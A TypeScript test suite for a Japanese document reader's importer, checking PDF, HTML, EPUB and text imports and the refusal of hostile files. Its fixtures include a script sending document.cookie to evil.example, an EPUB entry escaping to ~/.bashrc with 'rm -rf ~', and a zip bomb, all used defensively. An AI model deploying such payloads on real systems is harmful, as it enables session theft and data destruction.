// Whole imports into real SQLite files: each format through importDocument(), the
// database opened with the content store the reader uses, and its sections,
// paragraphs, page markers and roles checked against what the file holds.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openContentStore } from '../../electron/core/content/store';
import { IMPORT_META, META } from '../../electron/core/content/schema';
import { sha256 } from '../../electron/core/ingest/build';
import { defaultContentInputs } from '../../electron/core/content/inputs';
import { prepareContent } from '../../electron/core/ingest/build';
import { ImportError } from '../../electron/core/import/errors';
import { readImportExtras } from '../../electron/core/import/extras';
import { importDocument, type ImportOptions } from '../../electron/core/import/import';
import { makeEpub } from '../../electron/core/import/testing/zip-writer';
import { openDatabase } from '../../electron/core/sqlite';
import { readCitationSource } from '../../electron/core/citation/read';
import { readGlossary } from '../../electron/core/glossary/read';
import type { Truth } from '../fixtures/import/layout';

const FIXTURES = path.join(__dirname, '..', 'fixtures', 'import');
let dir: string;

beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hakusho-import-'));
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

function readBack(dbPath: string) {
  const store = openContentStore(dbPath);
  try {
    const extras = readImportExtras(dbPath);
    const db = openDatabase(dbPath, { readonly: true, fileMustExist: true });
    const meta = Object.fromEntries(
      (db.prepare('SELECT key, value FROM meta').all() as { key: string; value: string }[]).map(
        (r) => [r.key, r.value],
      ),
    );
    db.close();
    return {
      store: { document: store.document(), toc: store.toc() },
      roles: extras.roles,
      markers: extras.pageMarkers,
      extras,
      meta,
      paragraphs: store.searchDocs().flatMap((d) => d.paragraphs),
      close: () => undefined,
    };
  } finally {
    store.close();
  }
}

async function importFixture(file: string, extra: Partial<ImportOptions> = {}) {
  const target = path.join(
    dir,
    `${path.basename(file)}-${Math.random().toString(16).slice(2)}.sqlite`,
  );
  const result = await importDocument({
    bytes: new Uint8Array(fs.readFileSync(path.join(FIXTURES, file))),
    name: file,
    target,
    ...extra,
  });
  return { result, target };
}

describe.each(['one-column', 'two-column', 'vertical'] as const)('PDF, %s', (layout) => {
  const truth = JSON.parse(
    fs.readFileSync(path.join(FIXTURES, `${layout}.truth.json`), 'utf8'),
  ) as Truth;
  let read: ReturnType<typeof readBack>;
  let result: Awaited<ReturnType<typeof importDocument>>;
  beforeAll(async () => {
    const done = await importFixture(`${layout}.pdf`);
    result = done.result;
    read = readBack(done.target);
  });
  afterAll(() => read.close());

  it('stores the outline the document prints (its 目次), in reading order', () => {
    expect(read.store.toc.map((t) => t.title)).toEqual(
      truth.headings.map((h) => h.title.replace(/\u3000/g, '\u3000')),
    );
    expect(read.store.toc.map((t) => t.level)).toEqual(truth.headings.map((h) => h.level));
  });

  it('stores the body text exactly, without the 目次, running heads or page numbers', () => {
    const body = read.paragraphs.filter((p) => !read.roles.has(p.id)).map((p) => p.text);
    expect(body).toEqual(truth.paragraphs.filter((p) => p.role === 'body').map((p) => p.text));
    expect(body.join('')).not.toContain(truth.runningHead);
    expect(body.join('')).not.toContain('目\u3000次');
  });

  it('keeps footnotes and captions apart from the body', () => {
    const asides = read.paragraphs.filter((p) => read.roles.has(p.id));
    for (const note of truth.paragraphs.filter((p) => p.role === 'footnote'))
      expect(asides.some((a) => read.roles.get(a.id) === 'footnote' && a.text === note.text)).toBe(
        true,
      );
    for (const caption of truth.paragraphs.filter((p) => p.role === 'caption'))
      expect(
        asides.some((a) => read.roles.get(a.id) === 'caption' && a.text.startsWith(caption.text)),
      ).toBe(true);
  });

  it('keeps each paragraph’s printed page as a page marker', () => {
    const first = new Map(
      read.markers.filter((m) => m.offset === 0).map((m) => [m.paragraphId, m.label]),
    );
    const body = read.paragraphs.filter((p) => !read.roles.has(p.id));
    const printed = truth.paragraphs
      .filter((p) => p.role === 'body')
      .map((p) => p.pages[0]!.replace(/[^0-9]/g, ''));
    expect(body.map((p) => first.get(p.id))).toEqual(printed);
    expect(result.pageCount).toBe(truth.pageCount);
    expect(read.meta[IMPORT_META.pageCount]).toBe(String(truth.pageCount));
  });

  it('records the source, its hash and the writing direction', () => {
    const bytes = fs.readFileSync(path.join(FIXTURES, `${layout}.pdf`));
    expect(read.store.document.sourceSha256).toBe(sha256(bytes));
    expect(read.meta[META.sourceSha256]).toBe(sha256(bytes));
    expect(read.meta[IMPORT_META.sourceFormat]).toBe('pdf');
    expect(read.meta[IMPORT_META.writingMode]).toBe(
      layout === 'vertical' ? 'vertical' : 'horizontal',
    );
    expect(read.store.document.title).toBe(truth.title.replace(/\u3000/g, '\u3000'));
  });
});

describe('HTML, EPUB and text imports', () => {
  it('imports a saved page: its outline and text, none of its scripts or site navigation', async () => {
    const html = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>通商白書2023 第3章 | 経済産業省</title>
      <script>fetch('https://evil.example/?'+document.cookie)</script></head>
      <body><div id="header"><a href="/">経済産業省</a></div><div class="breadcrumbs">ホーム ＞ 白書</div>
      <div id="main"><h1>第１節\u3000米国</h1><h2>1．概況</h2><p>２年目を迎えたバイデン政権は、2022 年 8 月に、
      気候変動対策への投資を目的とする「インフレ削減法」を成立させた。</p>
      <p>緊密な日米関係を反映し、<script>document.write('注入')</script>日米首脳は相互に訪問を行った。</p></div>
      <div id="footer">Copyright</div></body></html>`;
    const target = path.join(dir, 'page.sqlite');
    const result = await importDocument({
      bytes: new TextEncoder().encode(html),
      name: 'meti.html',
      target,
    });
    expect(result).toMatchObject({ format: 'html', sections: 2, paragraphs: 2, pageMarkers: 0 });
    const read = readBack(target);
    try {
      expect(read.store.toc.map((t) => [t.level, t.title])).toEqual([
        [1, '第１節\u3000米国'],
        [2, '1．概況'],
      ]);
      expect(read.paragraphs.map((p) => p.text)).toEqual([
        '２年目を迎えたバイデン政権は、2022年8月に、気候変動対策への投資を目的とする「インフレ削減法」を成立させた。',
        '緊密な日米関係を反映し、日米首脳は相互に訪問を行った。',
      ]);
      expect(read.store.document.title).toBe('通商白書2023 第3章 | 経済産業省');
    } finally {
      read.close();
    }
  });

  it('imports an EPUB, keeping a vertical book vertical', async () => {
    const epub = makeEpub({
      title: '縦書きの本',
      css: '.main { writing-mode: vertical-rl }',
      chapters: [
        {
          file: 'c1.xhtml',
          body: '<h1>第一章</h1><p>吾輩は猫である。</p><p><span epub:type="pagebreak" title="2"/>名前はまだ無い。</p>',
        },
        { file: 'c2.xhtml', body: '<h1>第二章</h1><p>どこで生れたか。</p>' },
      ],
    });
    const target = path.join(dir, 'book.sqlite');
    const result = await importDocument({ bytes: epub, name: 'book.epub', target });
    expect(result).toMatchObject({
      format: 'epub',
      writingMode: 'vertical',
      sections: 2,
      paragraphs: 3,
      publisher: '経済産業省',
      edition: '2023',
    });
    const read = readBack(target);
    try {
      expect(read.meta[IMPORT_META.writingMode]).toBe('vertical');
      expect(read.extras.meta.writingMode).toBe('vertical');
      expect(read.store.toc.map((t) => t.title)).toEqual(['第一章', '第二章']);
      expect(read.markers).toEqual([
        { paragraphId: 's1.p2', offset: 0, pageIndex: 1, label: '2' },
        { paragraphId: 's2.p1', offset: 0, pageIndex: 1, label: '2' },
      ]);
    } finally {
      read.close();
    }
  });

  it('imports the bundled chapter’s own source text with the same paragraphs the bundled build makes', async () => {
    const inputs = defaultContentInputs();
    const target = path.join(dir, 'source.sqlite');
    await importDocument({
      bytes: new Uint8Array(fs.readFileSync(inputs.sourcePath)),
      name: 'chapter.txt',
      target,
      title: '通商白書2023',
    });
    const read = readBack(target);
    try {
      const bundled = prepareContent(inputs).curated.paragraphs.map((p) => p.text);
      const imported = read.paragraphs.map((p) => p.text);
      // The bundled build also rejoins the one paragraph its curation file joins.
      const missing = bundled.filter((p) => !imported.includes(p));
      expect(missing.length).toBeLessThanOrEqual(1);
      expect(read.store.toc.length).toBeGreaterThanOrEqual(10);
    } finally {
      read.close();
    }
    // The glossary's rule runs on imports too (no curation: the text's own definitions).
    const store = openContentStore(target);
    try {
      const abbreviations = readGlossary(store).map((e) => e.abbreviation);
      expect(abbreviations).toEqual(expect.arrayContaining(['IPEF', 'JUCIP', 'CSIS', 'IRA']));
      expect(readCitationSource(store)).toMatchObject({ sections: [] });
    } finally {
      store.close();
    }
  });
});

describe('hostile and broken files: one clear line, nothing written', () => {
  async function refused(options: Omit<ImportOptions, 'target'>, code: string, message: RegExp) {
    const target = path.join(dir, `refused-${Math.random().toString(16).slice(2)}.sqlite`);
    fs.writeFileSync(target, 'previous document');
    let error: unknown;
    try {
      await importDocument({ ...options, target });
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(ImportError);
    expect((error as ImportError).code).toBe(code);
    expect((error as ImportError).message).toMatch(message);
    expect((error as ImportError).message).not.toContain('\n');
    expect(fs.readFileSync(target, 'utf8')).toBe('previous document');
    expect(fs.readdirSync(dir).filter((n) => n.includes('.tmp-'))).toEqual([]);
  }
  const pdf = () => new Uint8Array(fs.readFileSync(path.join(FIXTURES, 'one-column.pdf')));

  it('a truncated PDF', async () => {
    const bytes = pdf();
    await refused(
      { bytes: bytes.subarray(0, Math.floor(bytes.length / 2)), name: 'cut.pdf' },
      'damaged',
      /^cut\.pdf: truncated PDF/,
    );
  });

  it('an encrypted PDF', async () => {
    const bytes = new Uint8Array(fs.readFileSync(path.join(FIXTURES, 'encrypted.pdf')));
    await refused(
      { bytes, name: 'locked.pdf' },
      'encrypted',
      /^locked\.pdf: encrypted PDF \(it needs a password to open\)/,
    );
  });

  it('a PDF whose body is garbage', async () => {
    const bytes = new TextEncoder().encode('%PDF-1.7\n' + 'garbage '.repeat(200) + '\n%%EOF\n');
    await refused({ bytes, name: 'junk.pdf' }, 'damaged', /^junk\.pdf: /);
  });

  it('a PDF with corrupted bytes in the middle: imported as far as it reads, or one line — never a crash', async () => {
    for (const at of [0.3, 0.5, 0.7]) {
      const bytes = pdf();
      const start = Math.floor(bytes.length * at);
      for (let i = start; i < start + 64; i++) bytes[i] = 0x5a;
      const target = path.join(dir, `corrupt-${at}.sqlite`);
      try {
        const result = await importDocument({ bytes, name: 'corrupt.pdf', target });
        const store = openContentStore(target);
        expect(store.toc().length).toBe(result.sections);
        store.close();
      } catch (err) {
        expect(err).toBeInstanceOf(ImportError);
        expect((err as ImportError).message).toMatch(/^corrupt\.pdf: [^\n]+$/);
        expect(fs.existsSync(target)).toBe(false);
      }
    }
  });

  it('a file over the size limit and a PDF over the page limit', async () => {
    await refused(
      { bytes: pdf(), name: 'big.pdf', limits: { maxFileBytes: 1000 } },
      'too_large',
      /^big\.pdf: 11\d\.\d KB, larger than the limit of 1000 bytes$/,
    );
    await refused(
      { bytes: pdf(), name: 'long.pdf', limits: { maxPages: 2 } },
      'too_large',
      /^long\.pdf: 5 pages, more than the limit of 2$/,
    );
  });

  it('an EPUB with ../ paths and a zip bomb', async () => {
    const escape = makeEpub({
      title: 't',
      chapters: [{ file: 'a.xhtml', body: '<p>x</p>' }],
      extra: [{ name: '../../.bashrc', data: 'rm -rf ~' }],
    });
    await refused(
      { bytes: escape, name: 'escape.epub' },
      'unsafe_archive',
      /^escape\.epub: refused: an entry's path leaves the archive/,
    );
    const bomb = makeEpub({
      title: 't',
      chapters: [{ file: 'a.xhtml', body: '<p>x</p>' }],
      extra: [{ name: 'OEBPS/z.bin', data: new Uint8Array(4 * 1024 * 1024) }],
    });
    await refused({ bytes: bomb, name: 'bomb.epub' }, 'unsafe_archive', /zip bomb/);
  });

  it('an HTML file that is only scripts, and an empty file', async () => {
    await refused(
      { bytes: new TextEncoder().encode('<script>alert(1)</script>'), name: 'x.html' },
      'empty',
      /^x\.html: no text found$/,
    );
    await refused(
      { bytes: new Uint8Array(), name: 'empty.txt' },
      'empty',
      /^empty\.txt: empty file$/,
    );
  });

  it('an import cancelled through its AbortSignal', async () => {
    const controller = new AbortController();
    let pages = 0;
    const options = {
      bytes: pdf(),
      name: 'cancel.pdf',
      signal: controller.signal,
      onProgress: (p: { phase: string }) => {
        if (p.phase === 'pages' && ++pages === 2) controller.abort();
      },
    };
    await refused(options, 'aborted', /^cancel\.pdf: import cancelled$/);
  });
});
